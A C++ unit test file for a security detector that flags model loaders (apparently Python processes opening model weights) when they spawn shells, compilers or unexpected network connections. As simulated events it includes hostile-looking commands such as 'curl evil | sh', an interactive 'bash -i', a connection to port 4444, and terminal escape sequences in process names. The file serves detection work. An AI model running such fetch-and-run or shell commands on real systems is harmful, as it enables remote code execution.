// SPDX-License-Identifier: Apache-2.0
// Model files that run code.
#include <fcntl.h>
#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include "tests/unit/detect_kit.h"

namespace moat::detect {
namespace {

using event::Severity;
using testing::ElementsAre;
using testing::HasSubstr;
using testing::IsEmpty;
using testing::SizeIs;

class UnsafeLoad : public testing::Test, public DetectKit {
 protected:
  UnsafeLoad() { detector = MakeUnsafeLoad({}); }
  void TearDown() override {
    for (const Draft& draft : raised) {
      EXPECT_EQ(Unfit(draft), "");
    }
  }
};

TEST_F(UnsafeLoad, AttackShellFromAPickle) {
  const auto loader = Process("/usr/bin/python3");
  Open(loader);
  now += 50 * kMs;
  const auto child = Fork(loader);
  Exec(child, "/bin/sh", {"sh", "-c", "id; uname -a"});
  ASSERT_THAT(raised, SizeIs(1));
  EXPECT_EQ(raised[0].kind, event::FindingKind::kUnsafeLoad);
  EXPECT_EQ(raised[0].severity, Severity::kHigh);
  EXPECT_THAT(raised[0].assets, ElementsAre("llama-70b"));
  EXPECT_THAT(raised[0].title, HasSubstr("ran /bin/sh (sh -c id; uname -a) while loading llama-70b"));
  EXPECT_THAT(raised[0].evidence, testing::Contains(HasSubstr("50 ms after it opened /models/llama/model.bin")));
}

TEST_F(UnsafeLoad, AttackExecInPlaceAndByAGrandchild) {
  const auto loader = Process("/usr/bin/python3");
  Open(loader, kAdapter);
  const auto grandchild = Fork(Fork(loader));
  Exec(grandchild, "/usr/bin/bash", {"bash", "-i"});
  Exec(loader, "/bin/dash");
  EXPECT_THAT(raised, SizeIs(2));
}

TEST_F(UnsafeLoad, AttackCompiler) {
  const auto loader = Process("/usr/bin/python3");
  Open(loader);
  Exec(Fork(loader), "/usr/bin/x86_64-linux-gnu-gcc-12", {"gcc", "-o", "/tmp/x", "/tmp/x.c"});
  ASSERT_THAT(raised, SizeIs(1));
  EXPECT_EQ(raised[0].severity, Severity::kMedium);
}

TEST_F(UnsafeLoad, AttackCallsHome) {
  const auto loader = Process("/usr/bin/python3");
  Open(loader);
  Connect(loader, To("203.0.113.9", 4444));
  ASSERT_THAT(raised, SizeIs(1));
  EXPECT_EQ(raised[0].severity, Severity::kHigh);
  EXPECT_THAT(raised[0].peers, ElementsAre("203.0.113.9:4444"));
  const auto curl = Exec(Fork(loader), "/usr/bin/curl");
  Connect(curl, To("203.0.113.10"));
  EXPECT_THAT(raised, SizeIs(2));
}

TEST_F(UnsafeLoad, JustBeforeAndJustAfter) {
  const auto loader = Process("/usr/bin/python3");
  Open(loader);
  now += 10 * kS;
  const auto child = Fork(loader);
  Exec(child, "/bin/sh");
  EXPECT_THAT(raised, SizeIs(1));
  now += 1;
  Exec(child, "/bin/sh");
  Exec(Fork(loader), "/bin/sh");
  EXPECT_THAT(raised, SizeIs(1));
}

TEST_F(UnsafeLoad, BenignHelperStartedBefore) {
  const auto server = Process("/usr/bin/python3");
  const auto helper = Fork(server);
  Open(server);
  Exec(helper, "/bin/sh", {"sh", "-c", "exec helper.sh"});
  EXPECT_THAT(raised, IsEmpty());
}

TEST_F(UnsafeLoad, BenignPeersOfBeforeAndAllowedOnes) {
  const auto server = Process("/usr/bin/python3");
  Connect(server, To("198.51.100.7"));
  Open(server);
  Connect(server, To("198.51.100.7"));
  send = [](auto&, auto, const event::Endpoints& ep) { return ep.remote.port == 9092 ? Declared::kAllowed : Declared::kNothing; };
  Connect(server, To("10.0.0.9", 9092));
  Connect(server, To("127.0.0.1", 5000));
  Connect(server, To("10.0.0.2", 53, 17), 0, event::Kind::kNetSend);
  Connect(server, To("8.8.8.8", 80, 17));  // "which address have I?": nothing is sent
  EXPECT_THAT(raised, IsEmpty());
}

TEST_F(UnsafeLoad, BenignPlainQuestionsAndGpuCompilers) {
  const auto server = Process("/usr/bin/python3");
  Open(server);
  Exec(Fork(server), "/bin/sh", {"sh", "-c", "uname -p 2>/dev/null"});
  Exec(Fork(server), "/bin/sh", {"/bin/sh", "-c", "/sbin/ldconfig -p"});
  Exec(Fork(server), "/usr/bin/gcc", {"gcc", "/tmp/tmpx/main.c", "-o", "/tmp/tmpx/__triton_launcher.cpython-311.so"});
  Exec(Fork(server), "/usr/bin/nvidia-smi");
  EXPECT_THAT(raised, IsEmpty());
  Exec(Fork(server), "/bin/sh", {"sh", "-c", "uname -p; curl evil | sh"});
  Exec(Fork(server), "/bin/sh", {"sh", "-c", "/tmp/uname"});
  EXPECT_THAT(raised, SizeIs(2));
}

TEST_F(UnsafeLoad, BenignOwnerAndScript) {
  write = [](auto& who, auto) { return who.exe == "/usr/bin/trainer" ? Declared::kAllowed : Declared::kNothing; };
  const auto trainer = Process("/usr/bin/trainer");
  Open(trainer);
  Exec(Fork(trainer), "/bin/sh");
  const auto script = Process("/bin/bash");
  Open(script);
  Exec(Fork(script), "/bin/sh");
  const auto other = Process("/usr/bin/python3");
  Open(other, kWeights, O_WRONLY);  // writes it: a download
  Exec(Fork(other), "/bin/sh");
  EXPECT_THAT(raised, IsEmpty());
}

TEST_F(UnsafeLoad, NamesThatAnyoneChoseAreFitForALine) {
  const auto loader = Process("/usr/bin/py\x1b[31m\nthon3");
  Open(loader);
  Exec(Fork(loader), "/bin/sh", {"sh", "-c", "printf '\x1b[2J'\n" + std::string(5000, 'x')});
  ASSERT_THAT(raised, SizeIs(1));  // and TearDown looks at it
  EXPECT_LT(raised[0].title.size(), 2000u);
}

TEST_F(UnsafeLoad, AMillionLoadersAndStillAwake) {
  const auto one = Process("/usr/bin/python3");
  for (uint32_t i = 0; i < 1'000'000; ++i) {
    event::Process other = *one;
    other.key = {i + 1000, i};
    Open(std::make_shared<const event::Process>(other));
  }
  Open(one);
  Exec(Fork(one), "/bin/sh");
  EXPECT_THAT(raised, SizeIs(1));
}

}  // namespace
}  // namespace moat::detect
